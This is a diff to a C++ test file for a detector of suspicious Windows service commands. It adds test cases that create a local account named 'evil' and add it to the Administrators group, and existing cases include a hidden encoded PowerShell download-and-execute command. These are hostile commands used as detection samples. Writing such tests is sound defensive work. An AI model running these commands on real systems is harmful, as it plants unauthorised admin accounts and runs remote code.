@@ -20,6 +20,8 @@ TEST(Services, ReportsWhatIsSuspiciousAboutTheProgram) {
   const RuleCase cases[] = {
       {"x", "%COMSPEC% /c ping -n 1 127.0.0.1 > \\\\.\\pipe\\x",
        "services.shell_as_service medium"},
+      {"x", "cmd.exe /c net user evil P@ss1 /add", "services.shell_as_service high"},
+      {"x", "net.exe localgroup Administrators evil /add", "services.account_rights medium"},
       {"x", "cmd.exe /c start C:\\Windows\\a.exe", "services.shell_as_service medium"},
       {"x", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcAA6AC8ALwBlAA==",
        "services.shell_as_service high"},
